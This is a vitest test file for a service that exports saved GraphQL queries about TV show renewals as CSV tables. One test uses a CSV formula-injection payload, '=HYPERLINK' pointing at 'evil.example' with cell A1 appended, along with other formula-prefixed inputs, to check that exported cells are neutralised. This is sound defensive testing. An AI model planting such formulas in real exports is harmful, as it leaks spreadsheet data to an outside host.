import { text } from 'node:stream/consumers';
import papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runSavedQuery } from '../../src/graphql/run-saved-query.ts';
import { readSavedQueries } from '../../src/graphql/saved-queries.ts';
import { csvOf } from '../../src/publish/csv.ts';
import { type Table, tablesOf } from '../../src/publish/tables.ts';
import { given } from '../support/given.ts';
import { type TestServer, testServer } from '../support/server.ts';
import { savedQuery } from '../support/tracker.ts';
import { MORE_QUERIES } from './more-queries.ts';

let server: TestServer;
beforeAll(async () => {
  server = await testServer(undefined, { more: MORE_QUERIES });
});
afterAll(() => server.close());

interface Csv {
  readonly status: number;
  readonly text: string;
  readonly headers: Headers;
  /** Read by another reader than the writer's kin. */
  readonly header: readonly string[];
  readonly rows: readonly (readonly string[])[];
}

async function csv(path: string): Promise<Csv> {
  const response = await fetch(`${server.url}/q/${path}`);
  const body = await response.text();
  const { data, errors } = papa.parse<string[]>(body, {
    delimiter: ',',
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  const [header = [], ...rows] = data;
  return { status: response.status, text: body, headers: response.headers, header, rows };
}

/** Rows of a table whose cells are looked for by name. */
function records({ header, rows }: Csv): Record<string, string>[] {
  return rows.map((row) => Object.fromEntries(header.map((name, at) => [name, row[at] ?? ''])));
}

describe('every saved query is a table', () => {
  test.each(readSavedQueries())('$number: $slug', async (query) => {
    // Without a deadline: what Neo4j has yet to plan may take longer than a reader waits.
    const data = await runSavedQuery(server.tracker, query);
    const table = await csv(`${query.slug}.csv`);
    expect(table.status).toBe(200);
    expect(new Set(table.header).size).toBe(table.header.length);
    for (const row of table.rows) expect(row).toHaveLength(table.header.length);
    expect(table.rows).toHaveLength(itemsAt(data, query.rows.split('.')));
  });

  /** How many things are at a path of the answer, counted without the code that makes the tables. */
  function itemsAt(value: unknown, [step, ...rest]: string[]): number {
    if (Array.isArray(value))
      return value.reduce<number>(
        (sum, item) =>
          sum +
          itemsAt(
            item,
            [step ?? '', ...rest].filter((s) => s !== ''),
          ),
        0,
      );
    if (value === null || value === undefined) return 0;
    return step === undefined ? 1 : itemsAt((value as Record<string, unknown>)[step], rest);
  }
});

describe('rows and columns', () => {
  test('a row for each item; its lists in one cell, what stands above it in every row, lists beside it nowhere', async () => {
    const table = await csv('stance-by-authority.csv');
    expect(table.header).toEqual(['authority', 'stance', 'quotes', 'season.quoteCount']);
    const answer = await server.ask(savedQuery(24));
    expect(table.rows).toEqual(
      answer.season.stanceByAuthority.map(({ authority, stance, quotes }) => [
        authority ?? '',
        stance,
        String(quotes),
        String(answer.season.quoteCount),
      ]),
    );
    expect((await csv('stance-by-authority.csv?rows=season.coverage')).header).toEqual([
      'from',
      'to',
      'query',
      'note',
      'season.quoteCount',
    ]);
  });

  test('the values of a list in a cell stand in its order, and an unknown one keeps its place', async () => {
    const [first] = records(await csv('which-words-are-the-speakers.csv'));
    expect(first).toMatchObject({
      exact: 'I would love nothing more than to be able to go back to Paris and do [a new season].',
      closed: 'false',
      'wording.kind': 'SPOKEN | INSERTED | SPOKEN',
      'wording.edit.kind': ' | BRACKET | ',
      // None of the three is known: not two marks between nothing, but nothing.
      'wording.edit.original': '',
    });
  });

  test('one thing is one row', async () => {
    const [row, ...more] = records(await csv('is-there-another-season.csv'));
    expect(more).toEqual([]);
    expect(row).toMatchObject({
      'show.title': 'Emily in Paris',
      'status.status': 'RENEWED',
      'status.decidedIn.madeBy.name': 'Netflix',
      'then.status': 'PENDING',
      'then.evidence.exact': 'While Netflix is yet to confirm a sequel',
    });
  });

  test('the header is the same where there is no row', async () => {
    const full = await csv('who-in-the-cast-wants-it.csv');
    const none = await csv('who-in-the-cast-wants-it.csv?season=no-such-season');
    expect([none.status, none.rows, none.header]).toEqual([200, [], full.header]);
    expect(none.text.endsWith('\r\n')).toBe(true);
  });

  test('where an item and what stands above it would have one name, the item’s begins with the list’s', async () => {
    const { header } = await csv('is-this-outlet-the-original-or-a-copy.csv?rows=article.derivedFrom');
    expect(header).toEqual([
      'kind',
      'basis',
      'derivedFrom.article.publisher.name',
      'article.availability',
      'article.headline',
      'article.sourceRole',
      'article.publisher.name',
      'article.publisherUnknownBecause',
    ]);
  });

  test('every table of every query has columns with names of their own', async () => {
    const { queries } = (await (await fetch(`${server.url}/q.json`)).json()) as {
      queries: { name: string; tables: { rows: string; columns: string[] }[] }[];
    };
    const tables = queries.flatMap(({ tables }) => tables);
    expect(tables.length).toBeGreaterThan(queries.length);
    for (const { rows, columns } of tables) expect(new Set(columns).size, rows).toBe(columns.length);
  });
});

describe('what a cell holds', () => {
  const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click")';

  test('words of strangers are no formula and end no cell, in any country’s spreadsheet', async () => {
    const titles = [HOSTILE, '+1+1', '-2+3', '@SUM(A1)', 'a;=1+1;b', 'two\nlines, "quoted"', 'plain'];
    let shows = given();
    for (const [at, title] of titles.entries())
      shows = shows.show(`hostile-${String(at)}`, { title, aliases: [`=alias ${String(at)}`, 'b,c'] });
    await server.record(shows.dataset);
    const table = await csv('shows-as-they-are.csv');
    const of = (slug: string) => records(table).find((record) => record['slug'] === slug);
    expect(titles.map((_, at) => of(`hostile-${String(at)}`)?.['title'])).toEqual([
      `'${HOSTILE}`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      'a;=1+1;b',
      'two\nlines, "quoted"',
      'plain',
    ]);
    expect(of('hostile-0')?.['aliases']).toBe("'=alias 0 | b,c");
    expect(table.text).toContain('"a;=1+1;b"');
    const json = (await (await fetch(`${server.url}/q/shows-as-they-are.json`)).json()) as {
      data: { shows: { nodes: { title: string }[] } };
    };
    expect(json.data.shows.nodes.map(({ title }) => title)).toContain(HOSTILE);
    // An import on a busy machine takes its time.
  }, 90_000);

  const [things] = tablesOf([
    {
      name: 'things',
      list: true,
      fields: ['value', 'after'].map((name) => ({ name, list: false, fields: [] })),
    },
  ]) as [Table];
  const cell = async (value: unknown): Promise<string> =>
    (await text(csvOf(things, { things: [{ value, after: 1 }] }, null))).replace('"value","after"\r\n', '');

  test.each<[unknown, string]>([
    [null, ',1\r\n'],
    ['', '"",1\r\n'],
    [0, '0,1\r\n'],
    [-5, '-5,1\r\n'],
    [1.25, '1.25,1\r\n'],
    [true, 'true,1\r\n'],
    [false, 'false,1\r\n'],
    ['true', '"true",1\r\n'],
    ['-5', `"'-5",1\r\n`],
    ['\t=1', `"'\t=1",1\r\n`],
    ['\r=1', `"'\r=1",1\r\n`],
    ['\n=1', `"'\n=1",1\r\n`],
    ['＝1', `"'＝1",1\r\n`],
    ['a"b', '"a""b",1\r\n'],
    [{ a: ['b'] }, '"{""a"":[""b""]}",1\r\n'],
    [['b'], '"[""b""]",1\r\n'],
    ['“é” 🗼', '"“é” 🗼",1\r\n'],
  ])('%j', async (value, expected) => {
    expect(await cell(value)).toBe(expected);
  });
});

describe('an answer that is not whole', () => {
  test('says so in its status and on the last line, below the rows that there are', async () => {
    const table = await csv('half-of-an-answer.csv');
    expect(table.status).toBe(400);
    expect(table.headers.get('cache-control')).toBe('no-store');
    expect(table.headers.get('etag')).toBeNull();
    expect(table.header).toEqual(['slug', 'title']);
    expect(table.rows).toHaveLength(3);
    expect(table.rows.at(-1)).toEqual([
      '#error: Expected `first` of quotedSpeakers to be from 1 to 100, found 0.',
      '',
    ]);
    const response = await fetch(`${server.url}/q/half-of-an-answer.json`);
    expect([response.status, await response.json()]).toMatchObject([
      400,
      {
        data: { organization: null, shows: { nodes: [{}, {}] } },
        errors: [{ path: ['organization', 'quotedSpeakers'], extensions: { code: 'BAD_USER_INPUT' } }],
      },
    ]);
  });

  test('of which nothing is there has the header and the reason', async () => {
    const table = await csv('shows-by-status.csv?first=0');
    expect([table.status, table.header, table.rows.length]).toEqual([400, ['slug', 'shows.totalCount'], 1]);
    expect(table.rows[0]?.[0]).toMatch(/^#error: Expected `first` of shows to be from 1 to 100, found 0\./);
  });

  test('is sent a piece at a time, in a type that says what it is', async () => {
    const { headers } = await csv('shows-as-they-are.csv');
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('transfer-encoding')).toBe('chunked');
    expect(headers.get('content-length')).toBeNull();
  });
});
